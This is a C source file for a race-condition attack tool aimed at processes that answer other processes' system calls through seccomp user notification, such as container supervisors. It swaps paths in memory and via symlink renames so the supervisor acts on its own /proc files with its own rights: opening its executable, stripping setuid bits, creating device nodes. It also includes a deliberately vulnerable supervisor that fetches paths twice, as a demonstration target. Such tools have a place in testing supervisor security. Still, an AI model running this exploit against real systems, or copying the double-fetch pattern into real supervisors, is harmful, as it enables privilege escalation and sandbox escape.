// `races HARMLESS PID [owner]`: paths that change while the process PID, which answers this one's calls, looks at them: in the
// caller's memory (`memory`), and as a link that two names exchange (`link`). They change between what only PID reaches, below its
// folder of /proc, and HARMLESS, an empty file. Prints of each call whether PID was made to do it with its own rights: `won`, `lost`,
// or `no race` if not both paths were met. `owner` adds the calls that are answered where a build believes to be root.
//
// `races HARMLESS` does that to a naive process of its own which answers: it looks at the path, and looks again when it uses it.
#define _GNU_SOURCE
#include "attack.h"
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <time.h>

enum { path_size = 512 };

// ---- Who answers, naively

static int begins(const char *path, const char *with) { return strncmp(path, with, strlen(with)) == 0; }

// Whether a path, or a link on it, leads to what is this process's own.
static int is_own(const char *path) {
    char own[32], part[path_size], target[path_size];
    snprintf(own, sizeof own, "/proc/%d/", getpid());
    if (begins(path, own)) return 1;
    for (size_t end = 1; end <= strlen(path); end++) {
        if (path[end] != '/' && path[end] != 0) continue;
        snprintf(part, sizeof part, "%.*s", (int)end, path);
        ssize_t length = readlink(part, target, sizeof target - 1);
        if (length < 0) continue;
        target[length] = 0;
        if (begins(target, own)) return 1;
    }
    return 0;
}

static void read_path(pid_t caller, unsigned long address, char *path) {
    struct iovec here = {path, path_size - 1}, there = {(void *)address, path_size - 1};
    memset(path, 0, path_size);
    if (process_vm_readv(caller, &here, 1, &there, 1, 0) < 0) stop("process_vm_readv");
}

// Makes a call in the caller's place; the answer is the kernel's, or the error's number, negative.
static long use(pid_t caller, const struct seccomp_data *call, const char *path) {
    char answer[512] = {0};
    unsigned long at = call->nr == SYS_statx ? call->args[4] : call->args[1];
    long result;
    size_t size = 0;
    switch (call->nr) {
    case SYS_stat: result = syscall(SYS_stat, path, answer), size = sizeof(struct stat); break;
    case SYS_statfs: result = syscall(SYS_statfs, path, answer), size = sizeof(struct statfs); break;
    case SYS_statx:
        result = syscall(SYS_statx, call->args[0], path, call->args[2], call->args[3], answer), size = sizeof(struct statx);
        break;
    case SYS_open: result = open(path, O_RDONLY | O_CLOEXEC); break;
    case SYS_chown: result = chown(path, call->args[1], call->args[2]); break;
    // Devices are not for everybody: an empty file stands for one.
    default: result = mknod(path, S_IFREG | (call->args[1] & 0777), 0);
    }
    if (result < 0) return -errno;
    struct iovec here = {answer, size}, there = {(void *)at, size};
    if (size && process_vm_writev(caller, &here, 1, &there, 1, 0) < 0) return -EFAULT;
    return result;
}

static void supervise(pid_t caller, int listener) {
    for (;;) {
        struct pollfd ready = {listener, POLLIN, 0};
        poll(&ready, 1, -1);
        if (ready.revents & POLLHUP) return;
        struct seccomp_notif asked = {0};
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &asked)) continue;
        char path[path_size];
        unsigned long address = asked.data.args[asked.data.nr == SYS_statx];
        read_path(caller, address, path);
        long result = -EACCES;
        if (!is_own(path)) {
            read_path(caller, address, path);
            result = use(caller, &asked.data, path);
        }
        if (asked.data.nr == SYS_open && result >= 0) {
            struct seccomp_notif_addfd file = {.id = asked.id, .flags = SECCOMP_ADDFD_FLAG_SEND, .srcfd = result};
            if (ioctl(listener, SECCOMP_IOCTL_NOTIF_ADDFD, &file) < 0) stop("addfd");
            close(result);
            continue;
        }
        struct seccomp_notif_resp answer = {.id = asked.id, .val = result < 0 ? 0 : result, .error = result < 0 ? result : 0};
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
    }
}

// Has these calls of this process answered by whoever has the descriptor that it returns.
static int ask_another(void) {
    static const unsigned asked[] = {SYS_stat, SYS_statx, SYS_open, SYS_statfs, SYS_chown, SYS_mknod};
    enum { count = sizeof asked / sizeof *asked };
    struct sock_filter steps[count + 3] = {BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr))};
    for (int i = 0; i < count; i++)
        steps[1 + i] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, asked[i], (unsigned char)(count - i), 0);
    steps[count + 1] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    steps[count + 2] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF);
    struct sock_fprog program = {count + 3, steps};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
}

// ---- What is asked: each gives what tells the two files apart, or the error's number, negative.

static long ask_stat(const char *path) {
    struct stat answer;
    return syscall(SYS_stat, path, &answer) ? -errno : answer.st_size;
}
static long ask_statx(const char *path) {
    struct statx answer;
    return syscall(SYS_statx, AT_FDCWD, path, 0, STATX_BASIC_STATS, &answer) ? -errno : (long)answer.stx_size;
}
static long ask_open(const char *path) {
    struct stat answer;
    int file = syscall(SYS_open, path, O_RDONLY);
    if (file < 0) return -errno;
    if (fstat(file, &answer)) stop("fstat");
    close(file);
    return answer.st_size;
}
static long ask_statfs(const char *path) {
    struct statfs answer;
    return syscall(SYS_statfs, path, &answer) ? -errno : (answer.f_type & 0xffffffff) | (answer.f_flags & 0xffff) << 32;
}
// Takes the set-user-id bit away, which shows at the file itself.
static long ask_chown(const char *path) { return syscall(SYS_chown, path, -1, -1) ? -errno : 0; }
static long ask_mknod(const char *path) { return syscall(SYS_mknod, path, S_IFCHR | 0600, makedev(1, 3)) ? -errno : 0; }

static int is_touched(void) {
    struct stat own;
    return lstat("own", &own) == 0 && !(own.st_mode & S_ISUID);
}
static int is_made(void) { return access("made", F_OK) == 0; }

// ---- The race

static char path[path_size] __attribute__((aligned(64)));
static atomic_int racing;

static void *change_memory(void *texts) {
    for (unsigned round = 0; racing; round++) memcpy(path, (char *)texts + (round & 1) * path_size, path_size);
    return 0;
}
static void *change_link(void *unused) {
    while (racing) syscall(SYS_renameat2, AT_FDCWD, "link", AT_FDCWD, "other", 2);
    return unused;
}

static double seconds(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec + now.tv_nsec / 1e9;
}

// Asks until it is won or the time is over; says which.
static const char *race(long (*ask)(const char *), int (*effect)(void), long harmless, double most, void *(*change)(void *), void *texts) {
    pthread_t thread;
    long met = 0, refused = 0;
    int won = 0;
    racing = 1;
    if (pthread_create(&thread, 0, change, texts)) stop("pthread_create");
    for (double end = seconds() + most; !won && seconds() < end;) {
        long answer = ask(path);
        if (answer == harmless) met++;
        else if (answer >= 0) won = 1;
        else refused++;
        if (effect && effect()) won = 1;
    }
    racing = 0;
    pthread_join(thread, 0);
    return won ? "won" : met && refused ? "lost" : "no race";
}

static const struct {
    const char *name;
    long (*ask)(const char *);
    int (*effect)(void);
    // Below /proc/PID; with %s for this folder. `suffix` follows a link.
    const char *target, *harmless, *suffix;
} calls[] = {
    {"stat", ask_stat, 0, "exe", 0, ""}, {"statx", ask_statx, 0, "exe", 0, ""}, {"statfs", ask_statfs, 0, "exe", 0, ""},
    {"open", ask_open, 0, "exe", 0, ""}, {"open-random", ask_open, 0, "exe", "/dev/urandom", ""},
    {"chown", ask_chown, is_touched, "root%s/own", "plain", ""}, {"mknod", ask_mknod, is_made, "root%s", "taken", "/made"},
};
enum { calls_of_all = 5 };

// What two names exchange, and lie at first as they are named.
static void make_links(const char *target, const char *harmless) {
    unlink("link"), unlink("other");
    if (symlink(target, "link") || symlink(harmless, "other")) stop("symlink");
}

static void attack(pid_t pid, const char *harmless, size_t count, double most) {
    char folder[200], format[64], target[300], other[300];
    static char texts[2][path_size];
    if (!getcwd(folder, sizeof folder)) stop("getcwd");
    mkdir("taken", 0700);
    close(open("taken/made", O_CREAT | O_WRONLY, 0600));
    close(open("plain", O_CREAT | O_WRONLY, 0600));
    close(open("own", O_CREAT | O_WRONLY, 0600));
    for (size_t i = 0; i < count; i++) {
        snprintf(format, sizeof format, "/proc/%d/%s", pid, calls[i].target);
        snprintf(target, sizeof target, format, folder);
        const char *named = calls[i].harmless ? calls[i].harmless : harmless;
        if (named[0] == '/') snprintf(other, sizeof other, "%s", named);
        else snprintf(other, sizeof other, "%s/%s", folder, named);
        for (int is_link = 0; is_link < 2; is_link++) {
            unlink("made");
            chmod("own", 04700);
            memset(texts, 0, sizeof texts);
            snprintf(texts[0], path_size, "%s%s", target, calls[i].suffix);
            snprintf(texts[1], path_size, "%s%s", other, calls[i].suffix);
            // What it is by itself.
            memcpy(path, texts[1], path_size);
            long of_harmless = calls[i].ask(path);
            memset(path, 0, path_size);
            make_links(target, other);
            if (is_link) snprintf(path, path_size, "%s/link%s", folder, calls[i].suffix);
            const char *result = race(
                calls[i].ask, calls[i].effect, of_harmless, most, is_link ? change_link : change_memory, texts);
            printf("%s %s %s\n", calls[i].name, is_link ? "link" : "memory", result);
            fflush(stdout);
        }
    }
}

int main(int count, char **arguments) {
    enum { all = sizeof calls / sizeof *calls };
    if (count < 2) return 2;
    if (count > 2) {
        attack(atoi(arguments[2]), arguments[1], count > 3 ? all : calls_of_all, 1);
        return 0;
    }
    int ready[2], go[2], listener;
    if (pipe(ready) || pipe(go)) stop("pipe");
    pid_t child = fork();
    if (child == 0) {
        listener = ask_another();
        if (listener < 0 || write(ready[1], &listener, sizeof listener) < 0 || read(go[0], &listener, 1) < 0) stop("listener");
        attack(getppid(), arguments[1], all, 20);
        return 0;
    }
    if (read(ready[0], &listener, sizeof listener) < 0) stop("listener");
    listener = syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, child, 0), listener, 0);
    if (listener < 0) stop("pidfd_getfd");
    // From now on nobody else may look at what is its own.
    prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
    if (write(go[1], "", 1) < 0) stop("go");
    supervise(child, listener);
    waitpid(child, 0, 0);
    return 0;
}
